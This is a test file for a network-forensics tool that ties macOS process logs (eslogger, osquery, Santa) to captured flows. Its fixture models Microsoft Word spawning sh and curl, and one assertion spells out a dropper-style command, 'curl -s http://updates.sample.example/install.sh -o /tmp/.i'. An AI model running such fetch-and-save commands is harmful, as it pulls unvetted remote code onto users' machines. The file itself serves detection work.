"""--host-log: what a Mac tells of its programs, joined to its flows. The capture and its log are examples/document.*: Word
(pid 700) runs sh (811), sh runs curl (812), which fetches a script; Safari (655) fetches a page."""
import gzip
import json
import os
import pathlib
import subprocess
import sys

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "corpus"))
from captures import EXAMPLES, LUNETTE, needs_lunette  # noqa: E402

pytestmark = needs_lunette

CAPTURE, LOG = EXAMPLES / "document.pcapng.gz", EXAMPLES / "document.eslogger.jsonl"
WORD = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
ALERT = """local lunette = require "lunette"
lunette.detector { title = "Test", category = "Test" }
lunette.on("http", {}, function(e) lunette.alert { who = e.client_ip, where = e.host, why = e.path or "?", severity = "low" } end)
lunette.on("process", { action = "exec" }, function(e) lunette.alert { who = e.path, why = table.concat(e.arguments, "|"), severity = "info" } end)
"""


def run(*arguments, stdin=None, code=0):
    done = subprocess.run([LUNETTE, "replay", "-q", *map(str, arguments)], input=stdin, capture_output=True, timeout=60, check=False)
    assert done.returncode == code, done.stderr.decode()
    return [json.loads(line) for line in done.stdout.decode().splitlines()], done.stderr.decode()


def records(*arguments, **more):
    return run("--no-scripts", "-o", "-", *arguments, CAPTURE, **more)[0]


def of(kind, lines):
    return [line for line in lines if line["event_type"] == kind]


def curl_flow(lines):
    return next(line for line in of("flow", lines) if line.get("server_name") == "updates.sample.example" and line["dest_port"] == 80)


def test_flows_know_their_programs():
    flow = curl_flow(records("--host-log", LOG, "--record", "flow"))
    assert flow["process"] == {"program": "curl", "name": "curl", "pid": 812, "path": "/usr/bin/curl", "parent": "sh",
                               "ancestry": "sh < Microsoft Word < launchd"}
    assert flow["flow"]["ancestors"] == ["sh", "Microsoft Word", "launchd"]
    assert flow["flow"]["responsible"] == WORD
    assert flow["flow"]["arguments"] == "curl -s http://updates.sample.example/install.sh -o /tmp/.i"
    assert flow["flow"]["signing_id"] == "com.apple.curl" and flow["flow"]["platform"] == "yes"


def test_without_a_log_the_capture_alone_speaks():
    flow = curl_flow(records("--record", "flow"))
    assert flow["process"] == {"program": "curl", "name": "curl", "pid": 812}
    assert "ancestors" not in flow["flow"]


def test_dns_is_its_askers():
    """mDNSResponder asks; the log knows for whom."""
    asked = next(line for line in of("dns", records("--host-log", LOG, "--record", "dns")) if line["dns"]["rrname"] == "updates.sample.example")
    assert asked["process"]["name"] == "mDNSResponder" and asked["process"]["path"] == "/usr/bin/curl"


def test_process_events_among_the_others():
    lines = records("--host-log", LOG, "--record", "process,dns,http")
    assert [line["timestamp"] for line in lines] == sorted(line["timestamp"] for line in lines)
    told = [(line["endpoint"]["action"], line["process"]["program"], line["process"]["pid"]) for line in of("process", lines)]
    assert told == [("exec", "Safari", 655), ("exec", "Microsoft Word", 700), ("fork", "Microsoft Word", 811), ("exec", "sh", 811),
                    ("fork", "sh", 812), ("exec", "curl", 812), ("exit", "curl", 812), ("exit", "sh", 811), ("exit", "Safari", 655)]
    assert of("process", lines)[-1]["endpoint"]["exit_signal"] == 15


@pytest.mark.parametrize("offset,path", [("0", "/usr/bin/curl"), ("-600", None), ("3600", None), ("+0.02", "/usr/bin/curl")])
def test_the_clock_offset_moves_the_join(offset, path):
    """An hour off, nobody had that pid when the packets went; the capture's own name stays."""
    process = curl_flow(records("--host-log", LOG, "--host-clock-offset=" + offset, "--record", "flow"))["process"]
    assert process["name"] == "curl" and process.get("path") == path


def moved(tmp_path, name, replacements):
    text = LOG.read_text(encoding="utf-8")
    for old, new in replacements:
        assert old in text
        text = text.replace(old, new)
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_two_macs_with_the_same_pids(tmp_path):
    """Each log counts for its Mac's flows only."""
    other = moved(tmp_path, "other", [("\\/usr\\/bin\\/curl", "\\/usr\\/local\\/bin\\/curl")])
    mine, theirs = "192.168.7.23=%s" % LOG, "192.168.7.24,fd00::24=%s" % other
    for logs in ((mine, theirs), (theirs, mine)):
        lines = records("--host-log", logs[0], "--host-log", logs[1], "--record", "flow,process")
        assert curl_flow(lines)["process"]["path"] == "/usr/bin/curl"
        hosts = {(line["process"]["path"], line["src_ip"], line["endpoint"]["host"]) for line in of("process", lines) if line["process"]["pid"] == 812
                 and line["endpoint"]["action"] == "exec"}
        assert hosts == {("/usr/bin/curl", "192.168.7.23", "192.168.7.23"), ("/usr/local/bin/curl", "192.168.7.24", "192.168.7.24")}
    swapped = records("--host-log", "192.168.7.23=%s" % other, "--host-log", "192.168.7.24=%s" % LOG, "--record", "flow")
    assert curl_flow(swapped)["process"]["path"] == "/usr/local/bin/curl"
    nobody = records("--host-log", "192.168.7.99=%s" % LOG, "--record", "flow")
    assert "path" not in curl_flow(nobody)["process"]


def test_a_clock_of_its_own(tmp_path):
    log = "192.168.7.23=%s" % LOG
    right = records("--host-log", log, "--host-clock-offset", "3600", "--host-clock-offset", "192.168.7.23=0", "--record", "flow")
    assert curl_flow(right)["process"]["path"] == "/usr/bin/curl"


@pytest.mark.parametrize("batch", ["1", "7", "1024"])
@pytest.mark.parametrize("workers", ["1", "3"])
def test_the_same_for_all_batches_and_workers(batch, workers, tmp_path):
    script = tmp_path / "d.lua"
    script.write_text(ALERT)

    def alerts(*more):
        lines = run("-s", script, "-o", "-", "--record", "alert,process,flow", "--host-log", "192.168.7.23=%s" % LOG, *more, CAPTURE)[0]
        for line in lines:
            line.pop("flow_id", None)
        return sorted(json.dumps(line, sort_keys=True) for line in lines)

    expected = alerts()
    assert len(expected) == 9 + 4 + 2 + 4
    assert alerts("--batch", batch, "-w", workers) == expected


def test_osquery_tells_of_sockets_where_the_capture_does_not(tmp_path):
    """A capture without processes: the socket's owner is asked for."""
    plain = tmp_path / "plain.pcap"
    reader = subprocess.run(["tshark", "-r", CAPTURE, "-F", "pcap", "-w", plain], capture_output=True, check=False) if _has("tshark") else None
    if reader is None or reader.returncode:
        pytest.skip("needs tshark")
    row = {"action": "connect", "pid": "812", "path": "/usr/bin/curl", "family": "2", "protocol": "6", "local_address": "192.168.7.23",
           "local_port": "50102", "remote_address": "198.51.100.204", "remote_port": "80", "success": "1", "time": "1718270404", "eid": "1"}
    log = tmp_path / "osqueryd.results.log"
    log.write_text(json.dumps({"name": "sockets", "hostIdentifier": "annas-mac", "unixTime": "1718270405", "action": "added", "columns": row}) + "\n")
    lines = run("--no-scripts", "-o", "-", "--record", "flow", "--host-log", log, plain)[0]
    assert curl_flow(lines)["process"]["path"] == "/usr/bin/curl" and curl_flow(lines)["process"]["pid"] == 812
    both = run("--no-scripts", "-o", "-", "--record", "flow", "--host-log", log, "--host-log", LOG, plain)[0]
    assert curl_flow(both)["flow"]["ancestors"] == ["sh", "Microsoft Word", "launchd"]


def test_the_unified_log_and_santa(tmp_path):
    """The unified log knows whose pid it is, and no more; Santa knows the parent as well."""
    log, santa = tmp_path / "log", tmp_path / "santa.log"
    log.write_text('Filtering the log data using "processID == 812"\n' + json.dumps(
        {"timestamp": "2024-06-13 11:20:04.055000+0200", "processID": 812, "userID": 501, "processImagePath": "/usr/bin/curl",
         "processImageUUID": "0D1B2C3D-0000-3000-8000-000000000001", "eventMessage": "x", "traceID": 2 ** 64 - 1}) + '\n{"count":1,"finished":1}\n')
    lines = records("--host-log", log, "--record", "flow,process")
    told, = of("process", lines)
    assert told["endpoint"]["action"] == "seen" and told["endpoint"]["uuid"].startswith("0D1B2C3D") and told["endpoint"]["source"] == "log"
    assert curl_flow(lines)["process"]["path"] == "/usr/bin/curl" and "parent" not in curl_flow(lines)["process"]
    santa.write_text("[2024-06-13T09:20:03.000Z] I santad: action=EXEC|decision=ALLOW|pid=811|ppid=700|uid=501|user=anna|path=/bin/sh|args=sh\n"
                     "[2024-06-13T09:20:04.011Z] I santad: action=FORK|pid=812|ppid=811|uid=501\n"
                     "[2024-06-13T09:20:04.012Z] I santad: action=EXEC|decision=ALLOW|pid=812|ppid=811|uid=501|user=anna|path=/usr/bin/curl|args=curl -s x\n")
    flow = curl_flow(records("--host-log", santa, "--record", "flow"))
    assert flow["process"]["parent"] == "sh" and flow["flow"]["arguments"] == "curl -s x"


def _has(program):
    return any(os.access(os.path.join(folder, program), os.X_OK) for folder in os.environ["PATH"].split(":"))


def test_compressed_and_from_a_pipe(tmp_path):
    packed = tmp_path / "log.gz"
    packed.write_bytes(gzip.compress(LOG.read_bytes()))
    assert curl_flow(records("--host-log", packed, "--record", "flow"))["process"]["path"] == "/usr/bin/curl"
    piped = records("--host-log", "-", "--record", "flow", stdin=LOG.read_bytes())
    assert curl_flow(piped)["process"]["path"] == "/usr/bin/curl"


def stats(*arguments):
    record, = of("stats", records("--record", "stats", *arguments))
    return record["stats"]["host"]


def test_a_log_of_another_mac_is_not_believed(tmp_path):
    """Its pid 812 is another program than the kernel's curl: the kernel is right, and the log is counted."""
    other = moved(tmp_path, "other", [("\\/usr\\/bin\\/curl", "\\/usr\\/bin\\/nc")])
    flow = curl_flow(records("--host-log", other, "--record", "flow"))
    assert flow["process"] == {"program": "curl", "name": "curl", "pid": 812} and "ancestors" not in flow["flow"]
    wrong, right = stats("--host-log", other), stats("--host-log", LOG)
    assert wrong["contradicted"] >= 1 and wrong["joined"] >= 1  # Safari is Safari
    assert right["contradicted"] == 0 and right["joined"] == wrong["joined"] + wrong["contradicted"]


@pytest.mark.parametrize("offset", ["-1.5", "-0.1", "0.1", "1.5"])
def test_a_clock_a_little_off_puts_no_false_program_on_a_flow(offset):
    """Around its exec, curl is sh in the log: the name tells which of the two it was."""
    flow = curl_flow(records("--host-log", LOG, "--host-clock-offset=" + offset, "--record", "flow"))
    assert flow["process"]["path"] == "/usr/bin/curl" and flow["process"]["ancestry"] == "sh < Microsoft Word < launchd"


def said_at_the_end(*arguments):
    done = subprocess.run([LUNETTE, "replay", "--no-scripts", *map(str, arguments)], capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr.decode()
    return " ".join(done.stdout.decode().split()), " ".join(done.stderr.decode().split())


@pytest.mark.parametrize("more", [[], ["-w", "3"], ["--pace", "1000x", "--control", "none"]])
def test_the_summary_says_what_joined(more):
    shown, warned = said_at_the_end("--host-log", "192.168.7.23=%s" % LOG, *more, CAPTURE)
    assert "host logs 9 lines, 9 news of processes and sockets, 2024-06-13 09:20:00 to 2024-06-13 09:20:09 UTC" in shown
    assert "joined 4 of 4 flows found their program there, 0 contradicted; 0 news late" in shown and not warned


def test_a_log_without_an_address_is_asked_for_one():
    """Else the alerts of what started are on no card, and the summary's alerts and the cards do not agree."""
    assert "Say whose the log is" in said_at_the_end("--host-log", LOG, CAPTURE)[0]
    assert "Say whose the log is" not in said_at_the_end("--host-log", "192.168.7.23=%s" % LOG, CAPTURE)[0]


def plain_capture(tmp_path):
    """The same packets without a word of processes."""
    if not _has("tshark"):
        pytest.skip("needs tshark")
    plain = tmp_path / "plain.pcap"
    subprocess.run(["tshark", "-r", CAPTURE, "-F", "pcap", "-w", plain], capture_output=True, check=True)
    return plain


def test_a_log_that_joins_nothing_is_warned_of(tmp_path):
    assert "they are of 2024-06-14 09:20:00 to" in said_at_the_end("--host-log", LOG, "--host-clock-offset", "86400", CAPTURE)[1]
    assert "192.168.7.99=…: no flow is of that address" in said_at_the_end("--host-log", "192.168.7.99=%s" % LOG, CAPTURE)[1]
    assert "the capture names no processes, and the logs no sockets" in said_at_the_end("--host-log", LOG, plain_capture(tmp_path))[1]
    other = moved(tmp_path, "other", [("\\/usr\\/bin\\/curl", "\\/usr\\/bin\\/nc"), ("MacOS\\/Safari", "MacOS\\/Firefox")])
    shown, warned = said_at_the_end("--host-log", other, CAPTURE)
    assert "0 of 4 flows" in shown and "4 contradicted" in shown and "are they of another Mac" in warned


def test_what_is_told_twice_comes_once(tmp_path):
    """The same log twice, the same lines twice in a file, and Santa a millisecond behind eslogger."""
    double = tmp_path / "double"
    double.write_text(LOG.read_text() * 2)
    santa = tmp_path / "santa.log"
    santa.write_text("[2024-06-13T09:20:04.003Z] I santad: action=EXEC|decision=ALLOW|pid=811|ppid=700|uid=501|user=anna|path=/bin/sh|args=sh\n")
    once = [line["endpoint"]["action"] for line in of("process", records("--host-log", LOG, "--record", "process"))]
    assert len(once) == 9
    for logs in ([LOG, LOG], [double], [LOG, santa]):
        told = of("process", records(*[word for log in logs for word in ("--host-log", log)], "--record", "process"))
        assert sorted(line["endpoint"]["action"] for line in told) == sorted(once), logs


def test_a_pipe_is_for_one_worker():
    lines, said = run("--no-scripts", "-o", "-", "-w", "2", "--host-log", "-", "--record", "flow", CAPTURE, stdin=LOG.read_bytes())
    assert "one worker instead of 2" in said and curl_flow(lines)["process"]["path"] == "/usr/bin/curl"


def test_broken_lines_are_told_once_and_passed_over(tmp_path):
    log = tmp_path / "log"
    log.write_text("".join('{"broken\n' + line + "\n" for line in LOG.read_text().splitlines()))
    lines, said = run("--no-scripts", "-o", "-", "--record", "flow", "--host-log", log, CAPTURE)
    assert curl_flow(lines)["process"]["path"] == "/usr/bin/curl"
    assert said.count("%s:1: no JSON" % log) == 1 and "9 of its 18 lines could not be read" in said


def test_a_file_of_something_else(tmp_path):
    log = tmp_path / "log"
    log.write_text("hello\nworld\n")
    said = run("--no-scripts", "--host-log", log, CAPTURE, code=1)[1]
    assert "nothing in it was understood" in said


@pytest.mark.parametrize("text", ['[{"timestamp":"x"},', '[\n  {', '{\n  "timestamp" : "x"\n}'])
def test_json_that_is_not_a_line_each(tmp_path, text):
    log = tmp_path / "log"
    log.write_text(text + "\n")
    assert "one JSON object a line is expected (of log: --style ndjson" in run("--no-scripts", "--host-log", log, CAPTURE, code=1)[1]


def test_a_file_with_an_equals_sign(tmp_path):
    log = tmp_path / "day=1"
    log.write_bytes(LOG.read_bytes())
    done = subprocess.run([LUNETTE, "replay", "-q", "--no-scripts", "--host-log", "day=1", CAPTURE], cwd=tmp_path, capture_output=True, timeout=60, check=False)
    assert done.returncode == 0 and not done.stderr


@pytest.mark.parametrize("arguments,said", [
    (["--host-log", "nowhere/at.all"], "--host-log nowhere/at.all: cannot be opened"),
    (["--host-log", "192.168.7.300=x"], "is no list of addresses"),
    (["--host-log", "192.168.7.23="], "expected FILE"),
    (["--host-clock-offset", "soon"], "expected SECONDS"),
    (["--host-log", "localhost=x"], "'localhost' is no list of addresses"),
    (["--host-log", "192.168.7.0/24=x"], "is no list of addresses"),
    (["--host-log", "[fd00::1]=x"], "is no list of addresses"),
    (["--host-log", "/tmp"], "a directory; the file of a host log"),
    (["--host-clock-offset", "1"], "there is none"),
    (["--host-log", "-", "-"], "not both"),
    (["--host-log", "-", "--host-log", "10.0.0.1=-"], "once only"),
    (["--host-log", str(LOG), "--host-clock-offset", "10.0.0.1=2"], "no --host-log is of that address"),
])
def test_slips(arguments, said):
    assert said in run("--no-scripts", *arguments, CAPTURE, code=2)[1]


def test_in_a_configuration(tmp_path):
    """Paths there begin at the configuration's folder."""
    (tmp_path / "log").write_bytes(LOG.read_bytes())
    config = tmp_path / "lunette.lua"
    config.write_text('host_log = { "192.168.7.23=log" }\nhost_clock_offset = "192.168.7.23=-0.001"\nno_scripts = true\n')
    lines = run("--config", config, "-o", "-", "--record", "flow", CAPTURE)[0]
    assert curl_flow(lines)["process"]["path"] == "/usr/bin/curl"


def test_lines_before_and_behind_the_packets(tmp_path):
    """All are heard; the clock stays with the packets."""
    early = LOG.read_text().splitlines()[0].replace("T09:20:00", "T07:00:00").replace("1718270400", "1718262000")
    late = LOG.read_text().splitlines()[-1].replace("T09:20:09", "T19:00:09")
    log = tmp_path / "log"
    log.write_text(early + "\n" + late + "\n")
    lines = records("--host-log", log, "--record", "process,flow")
    assert [line["timestamp"][11:16] for line in of("process", lines)] == ["07:00", "19:00"]
    assert {line["flow"]["reason"] for line in of("flow", lines)} == {"fin", "end_of_capture"}


def test_paced(tmp_path):
    out = tmp_path / "out.jsonl"
    done = subprocess.run([LUNETTE, "replay", "-q", "--no-scripts", "--pace", "50x", "--control", "none", "-o", out, "--record", "flow,process",
                           "--host-log", LOG, CAPTURE], capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert curl_flow(lines)["flow"]["ancestors"] == ["sh", "Microsoft Word", "launchd"] and len(of("process", lines)) == 9
